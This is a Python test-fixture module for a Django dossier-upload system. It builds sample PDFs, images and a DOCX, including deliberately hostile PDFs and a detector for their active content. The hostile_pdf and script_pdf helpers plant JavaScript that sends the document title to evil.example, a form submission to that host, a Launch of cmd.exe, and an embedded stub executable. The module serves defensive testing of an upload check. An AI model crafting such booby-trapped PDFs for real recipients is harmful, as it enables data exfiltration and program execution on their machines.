"""Proof files for the document tests: real PDFs and images, made on the fly."""

import hashlib
import io

from django.core.files.base import ContentFile

from dossiers.enums import ProofKind
from dossiers.models import Proof


def text_pdf(texts: list[str]) -> bytes:
    """A PDF with one page per text, in Helvetica (a standard font, not embedded)."""
    objects = [b"<</Type/Catalog/Pages 2 0 R>>", None, b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"]
    kids = []
    for text in texts:
        safe = text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)").encode("latin-1")
        stream = b"BT /F1 14 Tf 72 720 Td (" + safe + b") Tj ET"
        objects.append(b"<</Length %d>>stream\n" % len(stream) + stream + b"\nendstream")
        content_ref = len(objects)
        objects.append(
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Resources<</Font<</F1 3 0 R>>>>/Contents %d 0 R>>"
            % content_ref
        )
        kids.append(b"%d 0 R" % len(objects))
    objects[1] = b"<</Type/Pages/Kids[" + b" ".join(kids) + b"]/Count %d>>" % len(texts)
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref))
    return out.getvalue()


def image_bytes(fmt: str = "PNG", size=(640, 480), color=(40, 120, 200)) -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", size, color).save(out, fmt)
    return out.getvalue()


def add_proof(dossier, data: bytes, name: str, content_type: str, title: str = "", kind=ProofKind.PRODUCTION) -> Proof:
    proof = Proof(
        dossier=dossier,
        title=title or name,
        kind=kind,
        original_name=name,
        content_type=content_type,
        size=len(data),
        sha256=hashlib.sha256(data).hexdigest(),
    )
    proof.file.save(name, ContentFile(data), save=True)
    return proof


def weasyprint_pdf(texts: list[str]) -> bytes:
    """A PDF with one page per text and embedded fonts, as office software exports them."""
    from django.utils.html import escape
    from weasyprint import HTML

    pages = "".join(f'<p style="break-after: page">{escape(t)}</p>' for t in texts)
    return HTML(string=f'<html lang="fr"><body>{pages}</body></html>').write_pdf()


def docx_bytes() -> bytes:
    """A minimal DOCX archive (what the upload checks recognise as one)."""
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<document>Compte rendu</document>")
    return out.getvalue()


# --- PDFs carrying active content, as an attacker would craft them ----------------------------


def _action(kind: str, **entries):
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    action = DictionaryObject({NameObject("/Type"): NameObject("/Action"), NameObject("/S"): NameObject(kind)})
    for key, value in entries.items():
        action[NameObject(f"/{key}")] = TextStringObject(value) if isinstance(value, str) else value
    return action


def _annotation(writer, page, subtype: str, rect=(20, 20, 120, 60), **entries):
    from pypdf.generic import ArrayObject, DictionaryObject, FloatObject, NameObject

    annot = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject(subtype),
            NameObject("/Rect"): ArrayObject(FloatObject(v) for v in rect),
        }
    )
    for key, value in entries.items():
        annot[NameObject(f"/{key}")] = value
    ref = writer._add_object(annot)
    if "/Annots" not in page:
        page[NameObject("/Annots")] = ArrayObject()
    page["/Annots"].append(ref)
    return annot


def _embedded_file(writer, name: str, data: bytes):
    from pypdf.generic import DecodedStreamObject, DictionaryObject, NameObject, TextStringObject

    stream = DecodedStreamObject()
    stream.set_data(data)
    stream[NameObject("/Type")] = NameObject("/EmbeddedFile")
    return DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Filespec"),
            NameObject("/F"): TextStringObject(name),
            NameObject("/EF"): DictionaryObject({NameObject("/F"): writer._add_object(stream)}),
        }
    )


HOSTILE_TEXT = "Attestation avec pieges"


def hostile_pdf(*, scripts: bool = True) -> bytes:
    """A two-page PDF whose pages carry every kind of active content a viewer would run or
    open: page actions (/AA) with JavaScript, links that launch a program, run JavaScript,
    submit a form, open a javascript: URI or chain JavaScript after a web link, a file
    attachment (an executable), a form field (Widget) with its own actions, Screen, RichMedia,
    Sound, Movie and 3D annotations, a file associated with the page; and, document-wide, a
    JavaScript open action and a /Names/JavaScript tree. One honest web link and one internal
    link stay. ``scripts=False`` puts other actions where JavaScript and Launch were (what the
    upload check refuses), so that the rest can pass it."""
    from pypdf import PdfReader, PdfWriter
    from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(text_pdf([HOSTILE_TEXT, "Seconde page"]))))
    first, second = writer.pages
    js = "app.launchURL('https://evil.example/?c=' + this.info.Title, true);"

    def run():
        return _action("/JavaScript", JS=js) if scripts else _action("/ImportData", F="donnees.fdf")

    def launch():
        return _action("/Launch", F="C:\\Windows\\System32\\cmd.exe") if scripts else _action("/GoToR", F="a.pdf")

    first[NameObject("/AA")] = DictionaryObject({NameObject("/O"): run(), NameObject("/C"): run()})
    second[NameObject("/AA")] = DictionaryObject({NameObject("/O"): launch()})
    _annotation(writer, first, "/Link", A=launch())
    _annotation(writer, first, "/Link", A=run())
    _annotation(writer, first, "/Link", A=_action("/SubmitForm", F="https://evil.example/collect"))
    _annotation(writer, first, "/Link", A=_action("/URI", URI="javascript:app.alert(1)"))
    honest = _annotation(writer, first, "/Link", A=_action("/URI", URI="https://www.francevae.fr/"))
    honest["/A"][NameObject("/Next")] = run()
    _annotation(writer, first, "/Link", Dest=ArrayObject([second.indirect_reference, NameObject("/Fit")]))
    _annotation(writer, first, "/FileAttachment", FS=_embedded_file(writer, "facture.exe", b"MZ\x90\x00"))
    _annotation(
        writer,
        first,
        "/Widget",
        FT=NameObject("/Btn"),
        T=TextStringObject("bouton"),
        AA=DictionaryObject({NameObject("/D"): run()}),
    )
    for subtype in ("/Screen", "/RichMedia", "/Sound", "/Movie", "/3D"):
        _annotation(writer, second, subtype, A=run())
    second[NameObject("/AF")] = ArrayObject([_embedded_file(writer, "macro.docm", b"PK\x03\x04")])
    if scripts:
        _name_tree_script(writer, "app.alert('ouvert');")
        writer._root_object[NameObject("/OpenAction")] = run()
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _name_tree_script(writer, js: str) -> None:
    """Document-level JavaScript, run when the file opens: /Names/JavaScript."""
    from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

    tree = DictionaryObject(
        {
            NameObject("/Names"): ArrayObject(
                [TextStringObject("ouverture"), writer._add_object(_action("/JavaScript", JS=js))]
            )
        }
    )
    writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): tree})


def script_pdf(where: str) -> bytes:
    """A clean one-page PDF but for one JavaScript or Launch action, hung ``where``."""
    from pypdf import PdfReader, PdfWriter
    from pypdf.generic import DictionaryObject, NameObject

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(text_pdf(["Attestation"]))))
    page = writer.pages[0]
    if where == "open action":
        writer._root_object[NameObject("/OpenAction")] = _action("/JavaScript", JS="app.alert(1)")
    elif where == "name tree":
        _name_tree_script(writer, "app.alert(1)")
    elif where == "page /AA":
        page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): _action("/JavaScript", JS="app.alert(1)")})
    elif where == "launch link":
        _annotation(writer, page, "/Link", A=_action("/Launch", F="cmd.exe"))
    elif where == "chained after a web link":
        link = _annotation(writer, page, "/Link", A=_action("/URI", URI="https://www.francevae.fr/"))
        link["/A"][NameObject("/Next")] = _action("/JavaScript", JS="app.alert(1)")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def active_content(pdf: bytes) -> list[str]:
    """Everything in ``pdf`` that could act, found by walking all its objects: what a dossier
    PDF must not carry."""
    from pypdf import PdfReader
    from pypdf.generic import ArrayObject, DictionaryObject, IndirectObject

    kept_actions = {"/URI", "/GoTo"}
    dropped_annotations = {"/FileAttachment", "/Widget", "/Screen", "/RichMedia", "/Sound", "/Movie", "/3D"}
    reader = PdfReader(io.BytesIO(pdf))
    found = []
    ids = {(n, g) for g, entries in reader.xref.items() for n in entries} | {(n, 0) for n in reader.xref_objStm}
    for idnum, gen in sorted(ids):
        stack = [reader.get_object(IndirectObject(idnum, gen, reader))]
        while stack:
            item = stack.pop()
            if isinstance(item, DictionaryObject):
                if item.get("/S") is not None and item.get("/Type") == "/Action" and item["/S"] not in kept_actions:
                    found.append(f"action {item['/S']}")
                if item.get("/S") == "/URI" and not str(item.get("/URI", "")).startswith(("http", "mailto")):
                    found.append(f"URI {item.get('/URI')}")
                for key in ("/JS", "/AA", "/OpenAction", "/JavaScript", "/AF"):
                    if key in item:
                        found.append(key)
                if "/Next" in item and "/S" in item:  # actions chained (outline items have /Next too)
                    found.append("chained action")
                if item.get("/Subtype") in dropped_annotations:
                    found.append(f"annotation {item['/Subtype']}")
                if item.get("/Type") == "/EmbeddedFile" and b"MZ" in item.get_object().get_data()[:2]:
                    found.append("embedded executable")
                stack.extend(v for v in item.values() if isinstance(v, DictionaryObject | ArrayObject))
            elif isinstance(item, ArrayObject):
                stack.extend(v for v in item if isinstance(v, DictionaryObject | ArrayObject))
    return found
